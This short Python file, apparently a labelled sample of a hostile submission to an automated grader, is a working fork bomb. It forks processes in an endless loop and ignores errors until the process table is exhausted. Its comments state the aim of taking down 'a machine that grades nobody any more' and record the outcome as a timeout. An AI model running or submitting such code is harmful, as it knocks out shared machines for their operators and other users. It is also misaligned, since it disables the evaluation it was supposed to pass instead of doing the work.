# Goes for the process table: it forks as fast as it can.
# Gains: a machine that grades nobody any more.
# outcome: timed out
# ruff: noqa
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
